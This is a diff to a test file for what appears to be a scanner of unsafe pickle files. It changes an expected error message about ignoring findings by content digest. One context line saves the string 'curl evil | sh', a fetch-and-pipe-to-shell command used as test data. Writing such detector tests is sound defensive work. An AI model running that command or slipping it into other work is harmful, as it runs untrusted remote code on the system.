@@ -239,7 +239,10 @@ def test_per_target_ignore_accepts_a_payload_only_by_its_content(statecli, folde
     found = statecli(*PICKLES, "-f", "json")
     (content,) = {one["content"] for one in found.json["findings"] if "content" in one}
     assert found.code == 1
-    assert f'is not accepted for this content: "{content}"' in found.err
+    assert (
+        f'`contents` does not list the digest of the checked bytes, so unsafe-global is reported: "{content}"'
+        in found.err
+    )
     ignore(content)
     assert statecli(*PICKLES).code == 0
     save("curl evil | sh")
